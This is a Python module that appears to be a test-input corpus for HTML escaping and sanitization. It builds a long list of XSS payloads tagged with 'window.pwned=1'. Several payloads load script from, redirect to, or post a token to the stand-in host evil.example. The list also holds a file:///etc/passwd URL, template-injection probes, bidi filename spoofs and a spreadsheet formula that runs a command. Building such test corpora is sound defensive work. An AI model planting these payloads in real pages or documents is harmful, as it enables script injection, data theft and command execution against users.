"""What strangers may have written, made so that a browser that runs any of it leaves a trace: `window.pwned`."""

MARK = "window.pwned=1"

HANDLERS = ["onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpageshow", "onbegin"]
ELEMENTS = [
    "img src=x", "svg", "body", "iframe src=x", "input autofocus", "details open", "video src=x", "audio src=x",
    "svg><animate attributeName=x", "object data=x", "a href=# autofocus", "textarea autofocus",
]
ENDS = [
    '"', "'", "`", ">", '">', "'>", "</textarea>", "</title>", "</pre>", "</code>", "</bdi>", "</table>", "</style>",
    "</script>", "-->", "</option></select>", "]]>", "</svg>", "</noscript>",
]
ADDRESSES = [
    f"javascript:{MARK}", f"JaVaScRiPt:{MARK}", f" javascript:{MARK}", f"java\tscript:{MARK}",
    f"data:text/html,<script>{MARK}</script>", "//evil.example/", "https://evil.example/?q=\"><script>",
    "\\\\evil.example", f"&#106;avascript:{MARK}", "file:///etc/passwd",
]
TEMPLATES = ["{{token}}", "{{{token}}}", "{{#frame}}{{token}}{{/frame}}", "{{>layout}}", "{{=<% %>=}}", "${7*7}", "<%= 7*7 %>"]
DIRECTIONS = ["\u202egpj.exe", "\u2066a", "a\u2069", "\u200fa", "שלום <b>", "a\u200bb", "👨‍👩‍👧", "Z̷̢͓a̸l̵g̶o̷", "a\u0301\u0338"]
CONTROLS = [f"a{chr(code)}b" for code in range(1, 32)] + ["\x7f", "\x85", "\x1b[31mred", "\u2028", "\ufeff", "\ufffe", "\uffff"]
FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1"]
SIZES = ["", " ", "a" * 50_000, "<" * 5_000, "&amp;" * 1_000, "\n" * 1_000, "&lt;script&gt;", "&#60;", "\u0301" * 2_000]

ALL = (
    [f"<{element} {handler}={MARK}>" for element in ELEMENTS for handler in HANDLERS]
    + [end + f"<script>{MARK}</script>" for end in ENDS]
    + [end + f" onfocus={MARK} autofocus tabindex=0 x=" for end in ENDS]
    + [f"<script>{MARK}</script>", f"<ScRiPt>{MARK}</sCrIpT>", "<script src=//evil.example/x.js></script>",
       f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>", "<base href=//evil.example/>",
       "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
       "<style>*{display:none}</style>", "<form action=//evil.example><input name=token>", "<plaintext>", "<xmp>",
       "<!--", "<![CDATA[", "<template>", "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>"]
    + ADDRESSES + TEMPLATES + DIRECTIONS + CONTROLS + FORMULAS + SIZES
)
